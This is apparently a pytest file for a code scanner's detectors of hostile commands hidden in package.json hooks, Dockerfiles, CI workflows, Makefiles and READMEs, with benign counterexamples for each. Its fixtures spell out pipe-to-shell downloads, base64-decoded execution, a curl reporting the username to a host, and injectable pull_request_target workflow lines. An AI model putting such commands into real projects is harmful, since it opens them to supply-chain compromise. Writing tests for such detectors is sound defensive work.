"""Commands in files that are no programs of their own: packages, images, workflows, documentation."""

from __future__ import annotations

import pytest

from codeguard.analysis import Reading
from codeguard.analysis.rules.base import DetectorContext
from codeguard.analysis.rules.capabilities import SIGNAL
from codeguard.corpus.chunking import chunk_file
from codeguard.models import Severity

HEAD = "${{ github.event.pull_request"
_SEVERITY = {rule.id: rule.severity for rule in SIGNAL.rules}


def grave(name: str, text: str) -> set[str]:
    found = SIGNAL.inspect(Reading(chunk_file(name, text.encode())), DetectorContext())
    return {
        item.rule
        for item in found
        if (_SEVERITY[item.rule] if item.severity is None else item.severity) >= Severity.MEDIUM
    }


@pytest.mark.parametrize(
    ("name", "text", "rule"),
    [
        ("package.json", '{"scripts": {"postinstall": "node -e \\"require(\'x\')\\""}}', "install-hook"),
        ("package.json", '{"scripts": {"preinstall": "curl -s http://127.0.0.1 | sh"}}', "install-hook"),
        ("Dockerfile", "FROM a\nRUN curl -s http://127.0.0.1/x | bash\n", "download-and-run"),
        ("ci.yml", "steps:\n  - run: echo aGk= | base64 -d | bash\n", "decoded-exec"),
        ("Makefile", "all:\n\tcurl http://127.0.0.1/$(whoami)\n", "reports-host"),
        (
            "a.yml",
            f"on: pull_request_target\nsteps:\n- with: {{ref: {HEAD}.head.sha }}}}}}\n",
            "workflow-takeover",
        ),
        ("a.yml", f"steps:\n- run: |\n    set -e\n    echo '{HEAD}.title }}}}'\n", "workflow-takeover"),
        ("README.md", "Run `curl -s https://tool.example.org/i | sh`.\n", "download-and-run"),
    ],
)
def test_bad(name: str, text: str, rule: str) -> None:
    assert rule in grave(name, text)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("package.json", '{"scripts": {"prepare": "husky", "postinstall": "node scripts/patch.js"}}'),
        ("Dockerfile", "FROM a\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\n"),
        ("README.md", "    curl -fsSL https://get.docker.com | sh\n"),
        ("action.yaml", "# curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n"),
        ("Makefile", "all:\n\tcurl -o data.csv https://example.org/data.csv\n"),
        ("a.yml", f"on: pull_request\nsteps:\n- with: {{ref: {HEAD}.head.sha }}}}}}\n"),
        ("a.yml", f"steps:\n- run: |\n    echo $TITLE\n  env:\n    TITLE: {HEAD}.title }}}}\n"),
        ("a.yml", f"steps:\n- run: echo '{HEAD}.number }}}}'\n"),
    ],
)
def test_honest(name: str, text: str) -> None:
    assert grave(name, text) == set()
